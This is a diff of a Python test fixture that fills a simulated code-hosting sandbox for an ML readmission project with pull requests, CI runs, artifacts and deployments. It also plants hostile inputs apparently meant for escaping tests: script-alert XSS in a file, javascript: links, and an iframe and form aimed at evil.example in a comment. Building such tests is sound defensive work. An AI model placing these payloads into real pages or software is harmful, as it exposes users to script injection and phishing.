@@ -5,6 +5,7 @@ from __future__ import annotations
 import hashlib
 import http.client
 import re
+import shutil
 import zipfile
 from collections.abc import Iterator
 from dataclasses import dataclass, field, replace
@@ -178,7 +179,9 @@ class Sample:
 
 
 @dataclass
-class _Filling:
+class Filling:
+    """Puts things into a running sandbox without its API."""
+
     sandbox: Sandbox
 
     @property
@@ -190,22 +193,32 @@ class _Filling:
         tip = bare.branch("main")
         made = [("100644", bare.write_blob(text.encode()), path) for path, text in files.items()]
         tree = bare.write_tree(made, tip)
-        who = Who(repository.split("/")[0], "a@hospital.example", self.world.clock.stamp())
+        who = Who(repository.split("/", maxsplit=1)[0], "a@hospital.example", self.world.clock.stamp())
         sha = bare.write_commit(tree, (tip,), message or f"Change {', '.join(files)}", who, who)
         assert bare.move(f"refs/heads/{name}", sha, tip if name == "main" else None)
         return sha
 
     def pull(self, title: str, branch: str, author: str, repository: str = NAME, body: str = "") -> Pull:
-        made = operations.open_pull(
-            self.world, NewPull(NAME, title, repository, branch, "main", body), Actor(author)
-        )
+        made = operations.open_pull(self.world, NewPull(NAME, title, repository, branch, "main", body), Actor(author))
         for event in self.world.store.find(events.Event, NAME, state="pending"):
             self.world.store.done(event)
         return made
 
     def status(self, pull: Pull, state: str, description: str, creator: str = BOT) -> None:
         store, now = self.world.store, self.world.clock.stamp()
-        store.put(Status(store.next_id(), NAME, pull.head_sha, CONTEXT, state, description, f"{self.world.url}/{NAME}/actions", creator, now))
+        store.put(
+            Status(
+                store.next_id(),
+                NAME,
+                pull.head_sha,
+                CONTEXT,
+                state,
+                description,
+                f"{self.world.url}/{NAME}/actions",
+                creator,
+                now,
+            )
+        )
 
     def comment(self, pull: Pull, author: str, body: str) -> Comment:
         store, now = self.world.store, self.world.clock.stamp()
@@ -232,7 +245,25 @@ class _Filling:
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_text(log, encoding="utf-8")
         status = "completed" if conclusion else "in_progress"
-        job = Job(number, NAME, run.id, "branch of the repository", run.head_sha, 1, status, conclusion, ("ubuntu-24.04",), "", steps, place, {}, summary, now, now, now if conclusion else "")
+        job = Job(
+            number,
+            NAME,
+            run.id,
+            "branch of the repository",
+            run.head_sha,
+            1,
+            status,
+            conclusion,
+            ("ubuntu-24.04",),
+            "",
+            steps,
+            place,
+            {},
+            summary,
+            now,
+            now,
+            now if conclusion else "",
+        )
         store.put(check_of(self.world, job))
         return store.put(job)
 
@@ -247,7 +278,17 @@ class _Filling:
                 archive.writestr(inside, text)
         content = path.read_bytes()
         return store.put(
-            Artifact(number, NAME, run.id, name, place, len(content), hashlib.sha256(content).hexdigest(), self.world.clock.stamp(), "2099-01-01T00:00:00Z")
+            Artifact(
+                number,
+                NAME,
+                run.id,
+                name,
+                place,
+                len(content),
+                hashlib.sha256(content).hexdigest(),
+                self.world.clock.stamp(),
+                "2099-01-01T00:00:00Z",
+            )
         )
 
     def finished(self, run: Run) -> int:
@@ -257,26 +298,36 @@ class _Filling:
         return event.id
 
 
-def make(directory: Path) -> Iterator[Sample]:
+def fill(directory: Path) -> Sample:
+    """Fills a sandbox in ``directory`` and stops it; :func:`opened` starts a copy of it."""
     source = sandboxes.make_source(directory / "source")
     sandboxes.commit(source, ".github/workflows/nightly.yml", NIGHTLY, "Look every night")
     sandboxes.commit(source, "README.md", README, "Say what this is")
     sandboxes.commit(source, "params.yaml", "train:\n  depth: 3\n  rate: 0.1\n  rounds: 200\n", "The numbers")
     sandboxes.git("tag", "plain", cwd=source)
     sandboxes.git("tag", "-a", "readmission@v1.4.0", "-m", "Readmission 1.4.0\n\nApproved by clin.", cwd=source)
-    with Sandbox(directory / "sandbox", pages=routes) as sandbox:
+    with Sandbox(directory / "sandbox") as sandbox:
         sandbox.create_repository("acme", "ml", from_path=source)
         for login in ("acme", "ada", "clin", "eve"):
             sandbox.create_user(login)
         world = sandbox.world
-        world.store.put(replace(world.repository(NAME), writers=("ada", "clin"), description="Readmission within 30 days"))
+        store, now = world.store, world.clock.stamp()
+        known = world.repository(NAME)
+        store.put(replace(known, writers=("ada", "clin"), description="Readmission within 30 days"))
         sandbox.fork(NAME, "eve")
-        world.store.put(Repository(world.store.next_id(), "eve/secret", private=True, created_at=world.clock.stamp(), pushed_at=world.clock.stamp()))
+        store.put(Repository(store.next_id(), "eve/secret", private=True, created_at=now, pushed_at=now))
         world.repositories.create("eve/secret")
-        yield _fill(_Filling(sandbox))
+        return _fill(Filling(sandbox))
 
 
-def _fill(filling: _Filling) -> Sample:
+def opened(sample: Sample, directory: Path) -> Iterator[Sample]:
+    """A running copy of a filled sandbox, in ``directory``."""
+    shutil.copytree(sample.sandbox.directory, directory)
+    with Sandbox(directory, pages=routes) as sandbox:
+        yield replace(sample, sandbox=sandbox)
+
+
+def _fill(filling: Filling) -> Sample:
     world, store = filling.world, filling.world.store
     rules = (
         {"type": "pull_request", "parameters": {"required_approving_review_count": 1}},
@@ -286,8 +337,17 @@ def _fill(filling: _Filling) -> Sample:
     store.put(Ruleset(store.next_id(), NAME, "main", "active", "branch", conditions, rules))
     store.put(Label(store.next_id(), NAME, "retraining", "0e8a16"))
     good_params = "train:\n  depth: 4\n  rate: 0.1\n  rounds: 300\n"
-    filling.branch("deeper", {"params.yaml": good_params, "src/model.py": "x = 2\ny = 3\n"}, message="Deeper trees\n\nThey see more.")
-    good = filling.pull("Deeper trees", "deeper", "ada", body="Depth **4** instead of 3.\nMore rounds, too.\n\n- [x] tried\n- [ ] released")
+    filling.branch(
+        "deeper",
+        {"params.yaml": good_params, "src/model.py": "x = 2\ny = 3\n"},
+        message="Deeper trees\n\nThey see more.",
+    )
+    good = filling.pull(
+        "Deeper trees",
+        "deeper",
+        "ada",
+        body="Depth **4** instead of 3.\nMore rounds, too.\n\n- [x] tried\n- [ ] released",
+    )
     good = store.put(replace(good, labels=("retraining",)))
     filling.status(good, "success", "pass: no worse than the base for new patients")
     filling.branch("leak", {"pipelines/features.py": "def leak(frame):\n    return frame.outcome\n"})
@@ -296,11 +356,17 @@ def _fill(filling: _Filling) -> Sample:
     fork = filling.pull("Trust me", "forge", "eve", "eve/ml")
     filling.branch(HOSTILE_BRANCH, {"a<b>.py": "</td><script>alert(5)</script>\n"}, "eve/ml", message=HOSTILE)
     hostile = filling.pull(HOSTILE, HOSTILE_BRANCH, "eve", "eve/ml", HOSTILE)
-    filling.comment(hostile, "eve", f"{HOSTILE}\n\n[x](javascript:alert(6)) <iframe src=//evil.example></iframe>\n\n<style>*{{display:none}}</style><form action=//evil.example><input name=a><button>b</button></form> ![p](https://evil.example/p.png)")
+    filling.comment(
+        hostile,
+        "eve",
+        f"{HOSTILE}\n\n[x](javascript:alert(6)) <iframe src=//evil.example></iframe>\n\n<style>*{{display:none}}</style><form action=//evil.example><input name=a><button>b</button></form> ![p](https://evil.example/p.png)",
+    )
 
     opened = store.find(events.Event, NAME, name="pull_request")
     of_bad = next(event for event in opened if event.payload["number"] == bad.number)
-    run = filling.run(bad, "review", "pull_request", of_bad.id, status="completed", conclusion="failure", pulls=(bad.number,))
+    run = filling.run(
+        bad, "review", "pull_request", of_bad.id, status="completed", conclusion="failure", pulls=(bad.number,)
+    )
     steps = (
         Step(1, "Check out the pull request", "completed", "success", "2026-01-31T08:00:00Z", "2026-01-31T08:00:01Z"),
         Step(2, "Review <b>it</b>", "completed", "failure", "2026-01-31T08:00:01Z", "2026-01-31T08:01:13Z"),
@@ -309,18 +375,78 @@ def _fill(filling: _Filling) -> Sample:
     filling.job(run, steps, "failure", LOG, "### Refused\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n")
     forged = filling.artifact(run, "wardround-report", {"x/review.html": "<h1>forged</h1>"})
     filling.artifact(run, "wardround-evidence-readmission", {"publication.json": "{}"})
-    publish = filling.run(bad, "publish", "workflow_run", filling.finished(run), status="completed", conclusion="success")
+    publish = filling.run(
+        bad, "publish", "workflow_run", filling.finished(run), status="completed", conclusion="success"
+    )
     filling.job(publish, (Step(1, "Publish", "completed", "success"),), "success", "")
-    report = filling.artifact(publish, "wardround-report", {"readmission/review.html": REPORT, "readmission/review.md": "x"})
+    report = filling.artifact(
+        publish, "wardround-report", {"readmission/review.html": REPORT, "readmission/review.md": "x"}
+    )
     filling.status(bad, "failure", "refuse: performance.non_inferiority, split.leakage")
-    filling.comment(bad, "ada", "Why is this refused?\n@clin please look.\n\n```python\nx = 1\n```\n> quoted\n\nhttps://example.org")
+    filling.comment(
+        bad, "ada", "Why is this refused?\n@clin please look.\n\n```python\nx = 1\n```\n> quoted\n\nhttps://example.org"
+    )
     filling.comment(bad, BOT, COMMENT)
-    store.put(Review(store.next_id(), NAME, bad.number, "clin", "CHANGES_REQUESTED", bad.head_sha, "The outcome is in the features.", world.clock.stamp()))
+    store.put(
+        Review(
+            store.next_id(),
+            NAME,
+            bad.number,
+            "clin",
+            "CHANGES_REQUESTED",
+            bad.head_sha,
+            "The outcome is in the features.",
+            world.clock.stamp(),
+        )
+    )
 
     going = filling.run(good, "review", "pull_request", opened[0].id, status="in_progress", pulls=(good.number,))
-    filling.job(going, (Step(1, "Check out", "completed", "success"), Step(2, "Review", "in_progress", "")), "", "2026-01-31T08:00:00Z ##[group]Review\n2026-01-31T08:00:00Z ##[endgroup]\n2026-01-31T08:00:00Z stage split: up to date\n")
+    filling.job(
+        going,
+        (Step(1, "Check out", "completed", "success"), Step(2, "Review", "in_progress", "")),
+        "",
+        "2026-01-31T08:00:00Z ##[group]Review\n2026-01-31T08:00:00Z ##[endgroup]\n2026-01-31T08:00:00Z stage split: up to date\n",
+    )
     now, sha = world.clock.stamp(), world.bare(NAME).branch("main")
-    deployment = store.put(Deployment(store.next_id(), NAME, sha, "readmission@v1.4.0", "prod", "deploy", {}, "Readmission 1.4.0", "acme", now, now))
-    store.put(DeploymentStatus(store.next_id(), NAME, deployment.id, "success", "prod", "It answers", "", "javascript:alert(7)", "acme", now))
-    issue = store.put(Issue(store.next_id(), NAME, store.next_number(NAME), "The night run is late", "clin", "Since **Monday**.", created_at=now, updated_at=now))
+    deployment = store.put(
+        Deployment(
+            store.next_id(),
+            NAME,
+            sha,
+            "readmission@v1.4.0",
+            "prod",
+            "deploy",
+            {},
+            "Readmission 1.4.0",
+            "acme",
+            now,
+            now,
+        )
+    )
+    store.put(
+        DeploymentStatus(
+            store.next_id(),
+            NAME,
+            deployment.id,
+            "success",
+            "prod",
+            "It answers",
+            "",
+            "javascript:alert(7)",
+            "acme",
+            now,
+        )
+    )
+    issue = store.put(
+        Issue(
+            store.next_id(),
+            NAME,
+            store.next_number(NAME),
+            "The night run is late",
+            "clin",
+            "Since **Monday**.",
+            created_at=now,
+            updated_at=now,
+        )
+    )
     return Sample(filling.sandbox, good, bad, fork, hostile, run, publish, forged, report, issue)
